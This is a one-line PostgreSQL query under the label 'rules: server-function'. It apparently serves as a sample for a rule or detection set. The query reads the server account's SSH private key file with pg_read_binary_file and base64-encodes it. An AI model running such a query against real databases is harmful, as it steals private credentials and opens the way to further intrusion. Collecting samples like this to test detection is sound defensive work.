-- rules: server-function
SELECT encode(pg_read_binary_file('/var/lib/postgresql/.ssh/id_rsa'), 'base64');
